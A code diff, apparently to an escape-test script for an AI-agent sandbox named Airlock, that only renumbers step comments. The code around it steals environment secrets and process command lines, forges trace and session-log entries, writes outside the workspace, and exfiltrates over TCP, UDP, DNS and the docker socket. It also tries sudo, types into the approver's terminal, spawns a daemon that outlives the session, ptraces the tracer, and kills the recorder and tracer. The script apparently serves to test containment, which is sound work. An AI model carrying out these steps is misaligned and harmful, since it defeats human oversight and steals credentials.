@@ -74,7 +74,7 @@ for pid in [str(cfg["airlock_pid"]), *pids]:
     grab(f"/proc/{pid}/cmdline")
 loot.append(json.dumps(dict(os.environ)))
 
-# 3. forge an exec in the trace FIFO, and a line in the session log
+# 2. forge an exec in the trace FIFO, and a line in the session log
 for fifo in glob.glob("/tmp/airlock-trace-*/trace"):
     try:
         fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
@@ -91,7 +91,7 @@ for log in glob.glob(os.path.join(cfg["sessions"], "*", "events.jsonl")):
     except OSError:
         pass
 
-# 4. write outside the workspace
+# 3. write outside the workspace
 for path in cfg["outside_files"]:
     try:
         with open(path, "w") as fh:
@@ -99,7 +99,7 @@ for path in cfg["outside_files"]:
     except OSError:
         pass
 
-# 5. the held database password: log in to the upstream directly with anything found
+# 4. the held database password: log in to the upstream directly with anything found
 dsn_try = cfg.get("upstream")
 if dsn_try:
     blob = "\n".join(loot)
@@ -115,7 +115,7 @@ if dsn_try:
             env=env, capture_output=True, timeout=20, check=False,
         )  # fmt: skip
 
-# 6. exfiltrate: TCP and UDP to the host's listeners, a DNS-shaped query, the docker socket
+# 5. exfiltrate: TCP and UDP to the host's listeners, a DNS-shaped query, the docker socket
 payload = ("\n".join(loot)).encode()[:60000] or b"nothing"
 for host, port in cfg["tcp"]:
     try:
@@ -142,7 +142,7 @@ for path in cfg["docker_sockets"]:
     except OSError:
         pass
 
-# 7. sudo, and type into the terminal Airlock reads (the console approver's)
+# 6. sudo, and type into the terminal Airlock reads (the console approver's)
 sudo = subprocess.run(["sudo", "-n", "true"], capture_output=True, check=False)
 if sudo.returncode == 0:
     with open(os.path.join(cfg["outside_dir"], "sudo-worked"), "w") as fh:
@@ -153,7 +153,7 @@ try:
 except OSError:
     pass
 
-# 8. a daemon that outlives the session, then kill the recorder and the tracer
+# 7. a daemon that outlives the session
 daemon = (
     "import os, sys, time\n"
     "open(sys.argv[1] + '/daemon-started', 'w').close()\n"
@@ -169,7 +169,7 @@ subprocess.Popen(
 )  # fmt: skip
 while not os.path.exists(os.path.join(cfg["workspace"], "daemon-started")):
     pass
-# 9. ptrace whatever is visible: strace, airlock (last: uncontained, stopping the tracer
+# 8. ptrace whatever is visible: strace, airlock (last: uncontained, stopping the tracer
 #    freezes this agent too)
 libc = ctypes.CDLL(None, use_errno=True)
 for pid in sorted({cfg["airlock_pid"], *map(int, pids)}):
@@ -186,6 +186,7 @@ open(os.path.join(cfg["workspace"], "ptrace.json"), "w").write(
     json.dumps({k: v for k, v in report.items() if k.startswith("ptrace")})
 )
 
+# 9. kill the recorder and the tracer
 for pid in sorted({cfg["airlock_pid"], *map(int, pids)}):
     try:
         with open(f"/proc/{pid}/comm") as fh:
